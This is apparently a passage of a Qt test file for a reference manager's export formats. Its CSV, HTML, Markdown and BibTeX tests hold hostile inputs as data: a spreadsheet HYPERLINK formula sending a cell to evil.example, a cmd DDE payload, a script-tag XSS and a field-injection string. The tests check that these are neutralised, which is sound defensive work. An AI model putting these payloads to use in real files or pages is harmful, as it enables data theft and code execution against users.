#include "export/BibTexExporter.h"
#include "export/CsvExporter.h"
#include "export/ExportFile.h"
#include "export/ExportText.h"
#include "export/Exporter.h"
#include "export/HtmlExporter.h"
#include "export/JsonArrayWriter.h"
#include "export/MarkdownNote.h"

#include "ExportFixture.h"
#include "TestKit.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

#ifdef Q_OS_UNIX
#include <csignal>
#include <sys/resource.h>
#include <unistd.h>
#endif

using namespace Lectern;

// Every export format against its reference file, written from one set of papers full of text that
// breaks naive writers (tests/data/export/papers.json). LECTERN_REGENERATE_GOLDEN=1 rewrites the
// references from the current output, on purpose: review the diff before committing it.
class TestExporters : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void everyFormat_matchesItsReferenceFile_data();
    void everyFormat_matchesItsReferenceFile();
    void everyFormat_writesInBatchesWhatItWritesInOne_data();
    void everyFormat_writesInBatchesWhatItWritesInOne();
    void jsonArrayWriter_writesWhatQJsonDocumentWrites_data();
    void jsonArrayWriter_writesWhatQJsonDocumentWrites();
    void withoutFields_theReadersFieldsAreLeftOut_data();
    void withoutFields_theReadersFieldsAreLeftOut();
    void unsupportedFields_namesWhatTheFormatLoses_data();
    void unsupportedFields_namesWhatTheFormatLoses();
    void registry_namesEveryFormatOnce();
    void fieldsFromNames_readsTheCommandLineList();
    void fieldsFromNames_refusesAnUnknownField();

    void csvField_isQuotedOnlyWhenItMustBe_data();
    void csvField_isQuotedOnlyWhenItMustBe();
    void csvField_keepsSpreadsheetsFromRunningFormulas_data();
    void csvField_keepsSpreadsheetsFromRunningFormulas();
    void csv_readsBackAsTheSameFields();
    void html_showsHostileTextAsText();
    void markdown_showsHostileTextAsText();
    void html_linksOnlyToWebUrls();
    void bibtex_escapesSpecialCharacters_data();
    void bibtex_escapesSpecialCharacters();
    void bibtex_bracesCapitalisedTitleWords_data();
    void bibtex_bracesCapitalisedTitleWords();
    void bibtex_writesLettersAsLatexWhenAsked_data();
    void bibtex_writesLettersAsLatexWhenAsked();
    void bibtex_writesThePapersFields();
    void bibtex_writesNamesAsBibtexSplitsThem();
    void bibtex_writesBackTheSourcesOwnFields();
    void citationKeys_areUniqueWithinTheFile();
    void citationKeys_keepAPapersStoredKey();
    void dateParts_onlyWhenTheYearIsKnown_data();
    void dateParts_onlyWhenTheYearIsKnown();
    void cslJson_isAnArrayWithIssuedOnlyWhenTheYearIsKnown();
    void opml_isWellFormedEvenWithControlCharacters();

    void entryType_followsThePaperElseItsDoi_data();
    void entryType_followsThePaperElseItsDoi();
    void pageRange_splitsWhatIsARange_data();
    void pageRange_splitsWhatIsARange();
    void cslJson_writesThePapersFieldsAndNamesAsTheyAreStructured();
    void cslJson_typeFollowsThePaperNotItsDoi_data();
    void cslJson_typeFollowsThePaperNotItsDoi();
    void opml_textIsHtmlInsideTheXml();
    void html_saysItsLanguageAndEachPapers_data();
    void html_saysItsLanguageAndEachPapers();
    void markdownNote_isNestedUnderItsHeading_data();
    void markdownNote_isNestedUnderItsHeading();
    void markdown_noteCannotRunOnIntoTheNextPaper();
    void ris_writesNamesInTheSpecificationsOrder();
    void ris_writesTheBibliographicFieldsOfThePapersType();
    void ris_typeFollowsThePaperNotItsDoi();
    void ris_writesOneDoiEveryUrlAndTheRisFieldsItWasGiven();

    void writeExportFile_replacesAnExistingFile();
    void writeExportFile_intoAMissingFolderFails();
    void writeExportFile_underAFileFails();
    void writeExportFile_intoAReadOnlyFolderKeepsTheExistingFile();
    void writeExportFile_thatFailsHalfwayKeepsTheExistingFile();

private:
    static QList<Paper> fixture();
    static Paper chapterInABook();
    static ExportOptions allFieldsWithTitle();
};

namespace {

QByteArray readFile(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// RFC 4180 read back: quoted fields may hold commas, quotes (doubled) and line breaks.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"')
                field += text[++i];
            else if (c == u'"')
                quoted = false;
            else
                field += c;
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row.append(std::exchange(field, {}));
        } else if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n') {
            row.append(std::exchange(field, {}));
            rows.append(std::exchange(row, {}));
            ++i;
        } else {
            field += c;
        }
    }
    return rows;
}

} // namespace

QList<Paper> TestExporters::fixture()
{
    return TestKit::exportFixture(QStringLiteral("papers.json"));
}

// A paper with every bibliographic field, structured names of each kind and what a RIS file left over.
Paper TestExporters::chapterInABook()
{
    Paper paper;
    paper.type = QStringLiteral("chapter");
    paper.title = QStringLiteral("Consumers, Ritual and Łukasiewicz");
    paper.authors = {{QStringLiteral("Sherry"), QStringLiteral("John F."), {}, QStringLiteral("Jr."), {}},
                     {QStringLiteral("Beethoven"), QStringLiteral("Ludwig"), QStringLiteral("van"), {}, {}},
                     Person::literalName(QStringLiteral("World Health Organization"))};
    paper.editors = {{QStringLiteral("Schrödinger"), QStringLiteral("Erwin"), {}, {}, {}}};
    paper.published = QStringLiteral("2023-06-13");
    paper.container = QStringLiteral("Handbook of Rituals");
    paper.volume = QStringLiteral("5");
    paper.issue = QStringLiteral("2");
    paper.pages = QStringLiteral("12--34");
    paper.publisher = QStringLiteral("Springer");
    paper.isbn = QStringLiteral("978-3-16-148410-0");
    paper.issn = QStringLiteral("1234-5678");
    paper.language = QStringLiteral("en");
    paper.doi = QStringLiteral("10.1007/978-3-16-148410-0_2");
    paper.abstract = QStringLiteral("On rituals.\n\nA second paragraph.");
    paper.links = {{QStringLiteral("https://example.org/chapter"), Link::Kind::Page},
                   {QStringLiteral("https://github.com/example/ritual"), Link::Kind::Code}};
    paper.tags = {QStringLiteral("consumer research"), QStringLiteral("ritual/theory")};
    paper.note = QStringLiteral("Read the appendix.\n\nTwice.");
    paper.extraFields = {{QStringLiteral("M3"), QStringLiteral("Book Chapter")},
                         {QStringLiteral("DO"), QStringLiteral("10.9999/another")},
                         {QStringLiteral("ER"), QStringLiteral("not the end")},
                         {QStringLiteral("file"), QStringLiteral("chapter.pdf")}};
    return paper;
}

ExportOptions TestExporters::allFieldsWithTitle()
{
    ExportOptions options = ExportOptions::allFields();
    options.title = QStringLiteral("Reading list: <Hostile> & \"Friendly\"");
    return options;
}

void TestExporters::everyFormat_matchesItsReferenceFile_data()
{
    QTest::addColumn<QString>("format");
    for (const QString &name : exporterNames())
        QTest::newRow(qPrintable(name)) << name;
}

void TestExporters::everyFormat_matchesItsReferenceFile()
{
    QFETCH(QString, format);
    const QList<Paper> papers = fixture();
    QCOMPARE(papers.size(), 5);
    const Exporter *exporter = exporterNamed(format);
    QVERIFY(exporter);
    const QByteArray actual = exporter->write(papers, allFieldsWithTitle()).toUtf8();
    const QString reference = TestKit::exportDataPath(QStringLiteral("expected.") + exporter->fileExtension());

    if (qEnvironmentVariableIntValue("LECTERN_REGENERATE_GOLDEN")) {
        QFile file(reference);
        QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
        file.write(actual);
        qInfo("regenerated %s", qPrintable(reference));
    }
    const QByteArray expected = readFile(reference);
    QVERIFY2(!expected.isEmpty(), qPrintable(reference + QStringLiteral(" is missing")));
    if (actual != expected) {
        const QString actualPath = QDir::temp().filePath(QStringLiteral("lectern-actual.") + exporter->fileExtension());
        QFile out(actualPath);
        if (out.open(QIODevice::WriteOnly))
            out.write(actual);
        QFAIL(qPrintable(QStringLiteral("differs from %1; the output is in %2").arg(reference, actualPath)));
    }
}

// An export of a whole library reads its papers a batch at a time; the batches must not show in the file.
void TestExporters::everyFormat_writesInBatchesWhatItWritesInOne_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<bool>("withTitle");
    for (const QString &name : exporterNames()) {
        QTest::addRow("%s", qPrintable(name)) << name << true;
        QTest::addRow("%s, untitled", qPrintable(name)) << name << false;
    }
}

void TestExporters::everyFormat_writesInBatchesWhatItWritesInOne()
{
    QFETCH(QString, format);
    QFETCH(bool, withTitle);
    const QList<Paper> papers = fixture() + QList<Paper>{chapterInABook()};
    QVERIFY(papers.size() >= 3);
    const ExportOptions options = withTitle ? allFieldsWithTitle() : ExportOptions::allFields();
    const Exporter &exporter = *exporterNamed(format);
    for (const qsizetype batchSize : {qsizetype(1), qsizetype(2)}) {
        QString text;
        QTextStream out(&text);
        qsizetype next = 0;
        exporter.writeTo(out, papers.size(), [&] {
            const QList<Paper> batch = papers.mid(next, batchSize);
            next += batchSize;
            return batch;
        }, options);
        out.flush();
        QCOMPARE(text, exporter.write(papers, options));
    }
    // No papers at all: what one empty batch gives.
    QString empty;
    QTextStream out(&empty);
    exporter.writeTo(out, 0, [] { return QList<Paper>(); }, options);
    out.flush();
    QCOMPARE(empty, exporter.write({}, options));
}

void TestExporters::jsonArrayWriter_writesWhatQJsonDocumentWrites_data()
{
    QTest::addColumn<QJsonArray>("array");
    const QJsonObject flat{{QStringLiteral("id"), 1}, {QStringLiteral("title"), QStringLiteral("Two\nlines, \"quoted\" ü")}};
    const QJsonObject nested{{QStringLiteral("empty array"), QJsonArray()},
                             {QStringLiteral("empty object"), QJsonObject()},
                             {QStringLiteral("names"), QJsonArray{QJsonObject{{QStringLiteral("family"), QStringLiteral("Chen")}},
                                                                  QStringLiteral("text"), 2.5, QJsonValue()}},
                             {QStringLiteral("object"), QJsonObject{{QStringLiteral("deeper"), QJsonArray{QJsonArray()}}}}};
    QTest::newRow("empty") << QJsonArray();
    QTest::newRow("one object") << QJsonArray{flat};
    QTest::newRow("an empty object") << QJsonArray{QJsonObject()};
    QTest::newRow("nested arrays and objects") << QJsonArray{flat, nested, QJsonObject(), nested};
}

void TestExporters::jsonArrayWriter_writesWhatQJsonDocumentWrites()
{
    QFETCH(QJsonArray, array);
    QString text;
    QTextStream out(&text);
    JsonArrayWriter writer(out);
    for (const QJsonValue value : std::as_const(array))
        writer.append(value.toObject());
    writer.finish();
    out.flush();
    QCOMPARE(text, QString::fromUtf8(QJsonDocument(array).toJson(QJsonDocument::Indented)));
}

void TestExporters::withoutFields_theReadersFieldsAreLeftOut_data()
{
    everyFormat_matchesItsReferenceFile_data();
}

void TestExporters::withoutFields_theReadersFieldsAreLeftOut()
{
    QFETCH(QString, format);
    const QString text = exporterNamed(format)->write(fixture(), {});
    QVERIFY(!text.contains(QStringLiteral("zzfixturetag")));
    QVERIFY(!text.contains(QStringLiteral("zznotemarker")));
    QVERIFY(!text.contains(QStringLiteral("zzcommentmarker")));
    // BibTeX braces each capitalised word of a title, so that styles keep its case.
    QVERIFY(text.contains(QStringLiteral("Deep Learning")) || text.contains(QStringLiteral("{Deep} {Learning}")));
}

void TestExporters::unsupportedFields_namesWhatTheFormatLoses_data()
{
    QTest::addColumn<QString>("format");
    QTest::addColumn<QStringList>("lost");
    const QStringList none;
    const QStringList noPlace{QStringLiteral("status"), QStringLiteral("rating"), QStringLiteral("highlights")};
    QTest::newRow("md") << QStringLiteral("md") << none;
    QTest::newRow("bib") << QStringLiteral("bib") << noPlace;
    QTest::newRow("ris") << QStringLiteral("ris") << noPlace;
    QTest::newRow("csljson") << QStringLiteral("csljson") << noPlace;
    QTest::newRow("csv") << QStringLiteral("csv") << none;
    QTest::newRow("html") << QStringLiteral("html") << none;
    QTest::newRow("opml") << QStringLiteral("opml") << none;
}

void TestExporters::unsupportedFields_namesWhatTheFormatLoses()
{
    QFETCH(QString, format);
    QFETCH(QStringList, lost);
    const Exporter &exporter = *exporterNamed(format);
    QCOMPARE(fieldNames(unsupportedFields(exporter, ExportOptions::allFields())), lost);
    QVERIFY(fieldNames(unsupportedFields(exporter, {})).isEmpty());
    ExportOptions tagsOnly;
    tagsOnly.tags = true;
    QVERIFY(fieldNames(unsupportedFields(exporter, tagsOnly)).isEmpty());
}

void TestExporters::registry_namesEveryFormatOnce()
{
    const QStringList names = exporterNames();
    QCOMPARE(names, (QStringList{QStringLiteral("md"), QStringLiteral("bib"), QStringLiteral("ris"), QStringLiteral("csljson"),
                                 QStringLiteral("csv"), QStringLiteral("html"), QStringLiteral("opml")}));
    for (const QString &name : names) {
        const Exporter *exporter = exporterNamed(name);
        QVERIFY(exporter);
        QCOMPARE(exporter->name(), name);
        QVERIFY(!exporter->displayName().isEmpty());
        QVERIFY(!exporter->fileExtension().isEmpty());
        QVERIFY(!exporter->syntaxDefinition().isEmpty());
    }
    QCOMPARE(exporterNamed(u"docx"), nullptr);
}

void TestExporters::fieldsFromNames_readsTheCommandLineList()
{
    const auto options = fieldsFromNames(QStringLiteral("tags, Notes,highlights"));
    QVERIFY(options);
    QCOMPARE(fieldNames(*options), (QStringList{QStringLiteral("tags"), QStringLiteral("notes"), QStringLiteral("highlights")}));
    QVERIFY(fieldNames(*fieldsFromNames(QString())).isEmpty());
}

void TestExporters::fieldsFromNames_refusesAnUnknownField()
{
    const auto options = fieldsFromNames(QStringLiteral("tags,colour"));
    QVERIFY(!options);
    QVERIFY2(options.error().message.contains(QStringLiteral("'colour'")), qPrintable(options.error().message));
}

void TestExporters::csvField_isQuotedOnlyWhenItMustBe_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("field");
    QTest::newRow("plain") << QStringLiteral("plain text") << QStringLiteral("plain text");
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("non-ASCII") << QStringLiteral("Schrödinger") << QStringLiteral("Schrödinger");
    QTest::newRow("comma") << QStringLiteral("a, b") << QStringLiteral("\"a, b\"");
    QTest::newRow("quote") << QStringLiteral("say \"hi\"") << QStringLiteral("\"say \"\"hi\"\"\"");
    QTest::newRow("line feed") << QStringLiteral("one\ntwo") << QStringLiteral("\"one\ntwo\"");
    QTest::newRow("carriage return") << QStringLiteral("one\rtwo") << QStringLiteral("\"one\rtwo\"");
    QTest::newRow("only a quote") << QStringLiteral("\"") << QStringLiteral("\"\"\"\"");
}

void TestExporters::csvField_isQuotedOnlyWhenItMustBe()
{
    QFETCH(QString, text);
    QFETCH(QString, field);
    QCOMPARE(CsvExporter::field(text), field);
}

// OWASP's CSV injection: a cell a spreadsheet would run starts with a quote; numbers stay numbers.
void TestExporters::csvField_keepsSpreadsheetsFromRunningFormulas_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("field");
    QTest::newRow("equals") << QStringLiteral("=1+1") << QStringLiteral("'=1+1");
    QTest::newRow("HYPERLINK") << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1)")
                               << QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
    QTest::newRow("plus") << QStringLiteral("+1+1") << QStringLiteral("'+1+1");
    QTest::newRow("minus, DDE") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
    QTest::newRow("at") << QStringLiteral("@SUM(A1:A2)") << QStringLiteral("'@SUM(A1:A2)");
    QTest::newRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
    QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
    QTest::newRow("lone minus") << QStringLiteral("-") << QStringLiteral("'-");
    QTest::newRow("minus and a word") << QStringLiteral("-not a number") << QStringLiteral("'-not a number");
    QTest::newRow("number with exponent") << QStringLiteral("-1e5") << QStringLiteral("'-1e5");
    QTest::newRow("number and a line") << QStringLiteral("-5\n=1+1") << QStringLiteral("\"'-5\n=1+1\"");
    QTest::newRow("negative number") << QStringLiteral("-5") << QStringLiteral("-5");
    QTest::newRow("negative decimal") << QStringLiteral("-0.25") << QStringLiteral("-0.25");
    QTest::newRow("signed number") << QStringLiteral("+3") << QStringLiteral("+3");
    QTest::newRow("formula later") << QStringLiteral("a=1+1") << QStringLiteral("a=1+1");
}

void TestExporters::csvField_keepsSpreadsheetsFromRunningFormulas()
{
    QFETCH(QString, text);
    QFETCH(QString, field);
    QCOMPARE(CsvExporter::field(text), field);
}

void TestExporters::csv_readsBackAsTheSameFields()
{
    const QList<Paper> papers = fixture();
    const QString text = exporterNamed(u"csv")->write(papers, ExportOptions::allFields());
    QVERIFY(text.endsWith(QStringLiteral("\r\n")));
    const QList<QStringList> rows = parseCsv(text);
    QCOMPARE(rows.size(), papers.size() + 1);
    const QStringList header = rows.first();
    QCOMPARE(header.first(), QStringLiteral("id"));
    for (qsizetype i = 0; i < papers.size(); ++i) {
        const QStringList &row = rows[i + 1];
        QCOMPARE(row.size(), header.size());
        QCOMPARE(row[header.indexOf(QStringLiteral("title"))], papers[i].title);
        QCOMPARE(row[header.indexOf(QStringLiteral("abstract"))], papers[i].abstract);
        QCOMPARE(row[header.indexOf(QStringLiteral("notes"))], papers[i].note);
        QCOMPARE(row[header.indexOf(QStringLiteral("status"))], statusName(papers[i].status));
    }
}

void TestExporters::html_showsHostileTextAsText()
{
    const QString html = exporterNamed(u"html")->write(fixture(), allFieldsWithTitle());
    QVERIFY(html.contains(QStringLiteral("<h2>&lt;script&gt;alert(1)&lt;/script&gt;</h2>")));
    QVERIFY(!html.contains(QStringLiteral("<script"), Qt::CaseInsensitive));
    QVERIFY(html.contains(QStringLiteral("<title>Reading list: &lt;Hostile&gt; &amp; &quot;Friendly&quot;</title>")));
    QVERIFY(html.contains(QStringLiteral("Check the &lt;b&gt;box&lt;/b&gt; &amp; the cat.")));
    QVERIFY(html.contains(QStringLiteral("<meta charset=\"utf-8\">")));
    QVERIFY(html.contains(QStringLiteral("@media print")));
    QVERIFY(html.contains(QStringLiteral("Schrödinger")));
    // The highlight colour that is not a plain #rrggbb never reaches the style attribute.
    QVERIFY(html.contains(QStringLiteral("<blockquote style=\"border-left-color: #ffd700\">a cat in a box</blockquote>")));
    QVERIFY(html.contains(QStringLiteral("<blockquote>50% of the cat</blockquote>")));
    QVERIFY(!html.contains(QStringLiteral("javascript"), Qt::CaseInsensitive));
}

void TestExporters::markdown_showsHostileTextAsText()
{
    const QString markdown = exporterNamed(u"md")->write(fixture(), allFieldsWithTitle());
    // Raw HTML starts with an unescaped '<', in the note (the reader's own Markdown) too; the only ones left open links.
    static const QRegularExpression unescapedTag(QStringLiteral(R"((?<!\\)<(?!https://))"));
    const auto match = unescapedTag.match(markdown);
    QVERIFY2(!match.hasMatch(), qPrintable(markdown.mid(match.capturedStart() - 20, 40)));
    QVERIFY(markdown.contains(QStringLiteral("## \\<script\\>alert(1)\\</script\\>\n")));
    QVERIFY(markdown.contains(QStringLiteral("\n\\- not a list\n")));
    QVERIFY(markdown.contains(QStringLiteral("\n1\\. not numbered\n")));
    QVERIFY(markdown.contains(QStringLiteral("\\[not\\](a link) \\*not emphasis\\* \\`not code\\`")));
    QVERIFY(markdown.contains(QStringLiteral("\\$x^2\\$ dollars, \\#hash, under\\_score")));
    QVERIFY(markdown.contains(QStringLiteral("### Note\n\nCheck the \\<b>box\\</b> & the cat.\n\nSecond paragraph")));
}

void TestExporters::html_linksOnlyToWebUrls()
{
    const QString html = exporterNamed(u"html")->write(fixture(), {});
    static const QRegularExpression href(QStringLiteral("href=\"([^\"]*)\""));
    int links = 0;
    for (const auto &match : href.globalMatch(html)) {
        QVERIFY2(match.captured(1).startsWith(QStringLiteral("https://")), qPrintable(match.captured(1)));
        ++links;
    }
    QVERIFY(links >= 4);
    QVERIFY(html.contains(QStringLiteral("href=\"https://example.org/a?b=1&amp;c=%222%22%3E%3Cscript%3E\"")));
}

void TestExporters::bibtex_escapesSpecialCharacters_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("escaped");
    QTest::newRow("plain") << QStringLiteral("Plain, text: yes!") << QStringLiteral("Plain, text: yes!");
    QTest::newRow("braces") << QStringLiteral("{x}") << QStringLiteral("\\{x\\}");
    QTest::newRow("percent") << QStringLiteral("50%") << QStringLiteral("50\\%");
    QTest::newRow("ampersand") << QStringLiteral("A & B") << QStringLiteral("A \\& B");
    QTest::newRow("dollar") << QStringLiteral("$5") << QStringLiteral("\\$5");
    QTest::newRow("hash") << QStringLiteral("#1") << QStringLiteral("\\#1");
    QTest::newRow("underscore") << QStringLiteral("a_b") << QStringLiteral("a\\_b");
    QTest::newRow("tilde") << QStringLiteral("a~b") << QStringLiteral("a\\textasciitilde{}b");
    QTest::newRow("caret") << QStringLiteral("x^2") << QStringLiteral("x\\textasciicircum{}2");
    QTest::newRow("backslash") << QStringLiteral("\\alpha") << QStringLiteral("\\textbackslash{}alpha");
    QTest::newRow("backslash and brace") << QStringLiteral("\\{") << QStringLiteral("\\textbackslash{}\\textbraceleft{}");
    // BibTeX counts escaped braces too: only a brace with its partner may be \{ or \}, a stray one would end the
    // value early ("Encoding} to") or carry the rest of the entry into it.
    QTest::newRow("stray closing brace") << QStringLiteral("Encoding} to") << QStringLiteral("Encoding\\textbraceright{} to");
    QTest::newRow("stray opening brace") << QStringLiteral("{Firstly, we") << QStringLiteral("\\textbraceleft{}Firstly, we");
    QTest::newRow("injected fields")
        << QStringLiteral("see }, author = \"Mallory\", x = {")
        << QStringLiteral("see \\textbraceright{}, author = \"Mallory\", x = \\textbraceleft{}");
    QTest::newRow("pair around a stray one") << QStringLiteral("{a}b}") << QStringLiteral("\\{a\\}b\\textbraceright{}");
    QTest::newRow("dashes") << QStringLiteral("--D 128 --arch, a---b") << QStringLiteral("-{}-D 128 -{}-arch, a-{}-{}-b");
    QTest::newRow("quotes") << QStringLiteral("''q'' ``t`` it's") << QStringLiteral("'{}'q'{}' `{}`t`{}` it's");
    QTest::newRow("inverted marks") << QStringLiteral("!` ?`") << QStringLiteral("!{}` ?{}`");
    QTest::newRow("angle brackets") << QStringLiteral("<b>|") << QStringLiteral("\\textless{}b\\textgreater{}|");
    QTest::newRow("non-ASCII") << QStringLiteral("Schrödinger") << QStringLiteral("Schrödinger");
}

void TestExporters::bibtex_escapesSpecialCharacters()
{
    QFETCH(QString, text);
    QFETCH(QString, escaped);
    QCOMPARE(BibTexExporter::escaped(text), escaped);
}

void TestExporters::bibtex_bracesCapitalisedTitleWords_data()
{
    QTest::addColumn<QString>("title");
    QTest::addColumn<QString>("written");
    QTest::newRow("acronym and colon") << QStringLiteral("ASID: Active exploration of PDEs")
                                       << QStringLiteral("{ASID}: {Active} exploration of {PDEs}");
    QTest::newRow("lower case stays") << QStringLiteral("a micro lie theory") << QStringLiteral("{a} micro lie theory");
    QTest::newRow("after a colon") << QStringLiteral("Continual learning: variational principle")
                                   << QStringLiteral("{Continual} learning: {variational} principle");
    QTest::newRow("inner capital") << QStringLiteral("high-dimensional PDEs, via iPhone")
                                   << QStringLiteral("{high-dimensional} {PDEs}, via {iPhone}");
    QTest::newRow("specials inside") << QStringLiteral("Cats & Dogs {not} 100%")
                                     << QStringLiteral("{Cats} \\& {Dogs} \\{not\\} 100\\%");
}

void TestExporters::bibtex_bracesCapitalisedTitleWords()
{
    QFETCH(QString, title);
    QFETCH(QString, written);
    QCOMPARE(BibTexExporter::titleText(title), written);
}

void TestExporters::bibtex_writesLettersAsLatexWhenAsked_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("latex");
    QTest::newRow("umlaut") << QStringLiteral("Schrödinger") << QStringLiteral("Schr{\\\"o}dinger");
    QTest::newRow("caron and acute") << QStringLiteral("Čech, José") << QStringLiteral("{\\v{C}}ech, Jos{\\'e}");
    QTest::newRow("special letters") << QStringLiteral("Łukasiewicz, Straße, Ørsted")
                                     << QStringLiteral("{\\L}ukasiewicz, Stra{\\ss}e, {\\O}rsted");
    QTest::newRow("dash") << QStringLiteral("a – b") << QStringLiteral("a {\\textendash} b");
    QTest::newRow("two marks") << QStringLiteral("ậ") << QStringLiteral("{\\^{\\d{a}}}") /* dot below first */;
    QTest::newRow("no LaTeX form") << QStringLiteral("日本語 😀") << QStringLiteral("日本語 😀");
    QTest::newRow("specials first") << QStringLiteral("ö_x") << QStringLiteral("{\\\"o}\\_x");
}

void TestExporters::bibtex_writesLettersAsLatexWhenAsked()
{
    QFETCH(QString, text);
    QFETCH(QString, latex);
    ExportOptions options;
    options.latexAscii = true;
    QCOMPARE(BibTexExporter::escaped(text, options), latex);
    QCOMPARE(BibTexExporter::escaped(text), BibTexExporter::escaped(text, {})); // UTF-8 unless asked
}

void TestExporters::bibtex_writesThePapersFields()
{
    Paper paper;
    paper.type = QStringLiteral("inproceedings");
    paper.title = QStringLiteral("Attention");
    paper.citationKey = QStringLiteral("vaswani2017attention");
    paper.authors = {Person::fromText(u"Vaswani, Ashish")};
    paper.editors = {Person::fromText(u"Guyon, Isabelle")};
    paper.published = QStringLiteral("2017-12-04");
    paper.container = QStringLiteral("Advances in Neural Information Processing Systems");
    paper.volume = QStringLiteral("30");
    paper.issue = QStringLiteral("2");
    paper.pages = QStringLiteral("5998-6008");
    paper.publisher = QStringLiteral("Curran");
    paper.isbn = QStringLiteral("978-1-5108-6096-4");
    paper.language = QStringLiteral("en");
    paper.doi = QStringLiteral("10.5555/3295222.3295349");
    paper.arxivId = QStringLiteral("1706.03762");
    paper.arxivCategory = QStringLiteral("cs.CL");
    const QString text = BibTexExporter().write({paper}, {});
    const QStringList expected{
        QStringLiteral("@inproceedings{vaswani2017attention,"),
        QStringLiteral("  author = {Vaswani, Ashish},"),
        QStringLiteral("  editor = {Guyon, Isabelle},"),
        QStringLiteral("  title = {{Attention}},"),
        QStringLiteral("  booktitle = {Advances in Neural Information Processing Systems},"),
        QStringLiteral("  year = {2017},"),
        QStringLiteral("  month = dec,"),
        QStringLiteral("  volume = {30},"),
        QStringLiteral("  number = {2},"),
        QStringLiteral("  pages = {5998--6008},"),
        QStringLiteral("  publisher = {Curran},"),
        QStringLiteral("  isbn = {978-1-5108-6096-4},"),
        QStringLiteral("  language = {en},"),
        QStringLiteral("  doi = {10.5555/3295222.3295349},"),
        QStringLiteral("  eprint = {1706.03762},"),
        QStringLiteral("  archivePrefix = {arXiv},"),
        QStringLiteral("  primaryClass = {cs.CL},"),
        QStringLiteral("  url = {https://arxiv.org/abs/1706.03762},"),
    };
    for (const QString &line : expected)
        QVERIFY2(text.contains(line + u'\n'), qPrintable(line + QStringLiteral(" in\n") + text));

    paper.type = QStringLiteral("thesis");
    QVERIFY(BibTexExporter().write({paper}, {}).contains(QStringLiteral("  school = {Curran},\n")));
    paper.type = QStringLiteral("article");
    QVERIFY(BibTexExporter().write({paper}, {}).contains(QStringLiteral("  journal = {Advances")));
    paper.type.clear(); // the source said nothing: a publisher's DOI makes it an article
    QVERIFY(BibTexExporter().write({paper}, {}).startsWith(QStringLiteral("@article{")));
    paper.container.clear(); // but not one without a journal, which BibTeX's @article requires
    QVERIFY(BibTexExporter().write({paper}, {}).startsWith(QStringLiteral("@misc{")));
}

void TestExporters::bibtex_writesNamesAsBibtexSplitsThem()
{
    Paper paper;
    paper.title = QStringLiteral("Names");
    paper.authors = {Person{QStringLiteral("Hippel"), QStringLiteral("Eric"), QStringLiteral("von"), {}, {}},
                     Person{QStringLiteral("Sherry"), QStringLiteral("John F."), {}, QStringLiteral("Jr."), {}},
                     Person::literalName(QStringLiteral("Barnes and Noble & Co")),
                     Person{QStringLiteral("Del Maestro"), QStringLiteral("Adrian"), {}, {}, {}},
                     Person{QStringLiteral("Anderson"), QStringLiteral("Sand and Sea"), {}, {}, {}}};
    QVERIFY2(BibTexExporter().write({paper}, {}).contains(QStringLiteral(
                 "  author = {von Hippel, Eric and Sherry, Jr., John F. and {Barnes and Noble \\& Co} and "
                 "Del Maestro, Adrian and Anderson, {Sand and Sea}},\n")),
             qPrintable(BibTexExporter().write({paper}, {})));
}

void TestExporters::bibtex_writesBackTheSourcesOwnFields()
{
    Paper paper;
    paper.title = QStringLiteral("Extra");
    paper.extraFields = {{QStringLiteral("file"), QStringLiteral(":a.pdf:PDF")},
                         {QStringLiteral("groups"), QStringLiteral("{\\em Reading}, b")},
                         {QStringLiteral("broken"), QStringLiteral("a } b")},
                         {QStringLiteral("M3"), QStringLiteral("RIS's own")},
                         {QStringLiteral("title"), QStringLiteral("a second title")}};
    const QString text = BibTexExporter().write({paper}, {});
    QVERIFY2(text.contains(QStringLiteral("  file = {:a.pdf:PDF},\n")), qPrintable(text));
    QVERIFY2(text.contains(QStringLiteral("  groups = {{\\em Reading}, b},\n")), qPrintable(text)); // TeX as it was
    QVERIFY2(text.contains(QStringLiteral("  broken = {a \\textbraceright{} b},\n")), qPrintable(text));
    QVERIFY(!text.contains(QStringLiteral("M3")));
    QCOMPARE(text.count(QStringLiteral("title = ")), 1);
}

void TestExporters::citationKeys_keepAPapersStoredKey()
{
    QList<Paper> papers = fixture();
    papers[1].citationKey = QStringLiteral("Stored:Key-1");
    papers[2].citationKey = QStringLiteral("schrodinger2023schrodinger"); // what papers[0] would be given
    const QStringList keys = ExportText::citationKeys(papers);
    QCOMPARE(keys[1], QStringLiteral("Stored:Key-1"));
    QCOMPARE(keys[2], QStringLiteral("schrodinger2023schrodinger"));
    QCOMPARE(keys[0], QStringLiteral("schrodinger2023schrodingera"));
}

void TestExporters::citationKeys_areUniqueWithinTheFile()
{
    QList<Paper> papers = fixture();
    papers.append(papers.first()); // the same paper twice still gets two keys
    QCOMPARE(ExportText::citationKeys(papers),
             (QStringList{QStringLiteral("schrodinger2023schrodinger"), QStringLiteral("script"),
                          QStringLiteral("lecun2015deep"), QStringLiteral("schrodinger2023what"), QStringLiteral("curse"),
                          QStringLiteral("schrodinger2023schrodingera")}));
}

void TestExporters::dateParts_onlyWhenTheYearIsKnown_data()
{
